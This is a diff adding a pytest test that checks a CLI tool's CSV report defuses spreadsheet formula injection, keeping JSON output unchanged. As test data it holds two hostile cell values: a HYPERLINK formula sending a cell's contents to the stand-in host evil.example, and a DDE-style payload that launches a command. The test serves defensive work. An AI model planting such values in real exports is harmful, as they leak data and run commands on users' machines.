@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import json
 
 import pytest
@@ -182,3 +184,21 @@ def test_cli_text_work_list_is_readable_in_a_terminal(tmp_path, capsys):
     code, out, _ = run_cli(["report", "--offices", "--data-dir", str(path.parent), "--no-db", "--format", "csv"],
                            capsys)  # fmt: skip
     assert long_name.strip() in out  # the machine formats keep every character
+
+
+def test_cli_csv_report_neutralises_formulas(tmp_path, offices, capsys, monkeypatch):
+    # Validation keeps formulas out of the directory; the CSV writer must not rely on it (defence in depth).
+    hostile = offices.copy()
+    hostile.loc[0, "name"] = '=HYPERLINK("http://evil.example/?x="&A1,"Click for help")'
+    hostile.loc[1, "name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    monkeypatch.setattr("finder.cli.report._offices", lambda args: hostile)
+    base = ["report", "--today", "2026-11-28", "--stale-after", "730", "--offices", "--format", "csv"]
+    code, out, _ = run_cli(base, capsys)
+    names = {row["id"]: row["name"] for row in csv.DictReader(io.StringIO(out))}
+    assert code == 0
+    assert names["old"] == "'" + hostile.loc[0, "name"]
+    assert names["new"] == "'" + hostile.loc[1, "name"]
+    assert names["undated"] == "Office 3"
+    # JSON is for programs: values stay exactly as they are.
+    code, out, _ = run_cli([*base[:-1], "json"], capsys)
+    assert {r["name"] for r in json.loads(out)["rows"]} >= set(hostile["name"][:2])
